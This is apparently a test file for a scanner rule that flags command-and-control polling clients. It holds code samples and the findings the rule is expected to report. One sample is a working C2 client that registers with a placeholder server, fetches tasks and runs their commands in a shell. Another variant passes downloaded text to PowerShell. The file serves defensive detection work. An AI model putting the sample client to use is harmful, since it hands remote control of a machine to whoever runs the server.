"""The client of a command server."""

from lazaretto.detect.rules.python.token_poll import RULE


def test_register_poll_run(scan):
    text = r"""import requests, subprocess, time, platform
URL = "https://api.example.test"
def main():
    token = requests.post(URL + "/register", json={"host": platform.node()}).json()["token"]
    while True:
        task = requests.get(URL + "/task", headers={"token": token}).json()
        subprocess.run(task["command"], shell=True)
        time.sleep(10)
"""
    assert scan(RULE, text) == [(7, "HIGH", "MEDIUM", "run")]


def test_near_miss_a_poller_that_runs_nothing(scan):
    text = r"""import requests, subprocess, time
token = requests.post("https://api.example.test/login").json()["token"]
while True:
    print(requests.get("https://api.example.test/state", headers={"t": token}).json())
    subprocess.run(["date"])
    time.sleep(5)
"""
    assert scan(RULE, text) == []


def test_a_tool_that_is_written_out(scan):
    text = """import requests, subprocess, time
def fetch():
    version = requests.get("https://releases.example.test/latest").text
    archive = requests.get("https://releases.example.test/" + version).url
    time.sleep(1)
    subprocess.run([{program}archive])
"""
    assert scan(RULE, text.format(program='"unzip", ')) == []
    assert scan(RULE, text.format(program='"powershell", "-Command", "Expand-Archive -Path " + ')) == []
    assert scan(RULE, text.format(program='"powershell", "-Command", ')) == [(6, "HIGH", "MEDIUM", "run")]
    assert scan(RULE, text.format(program="")) == [(6, "HIGH", "MEDIUM", "run")]
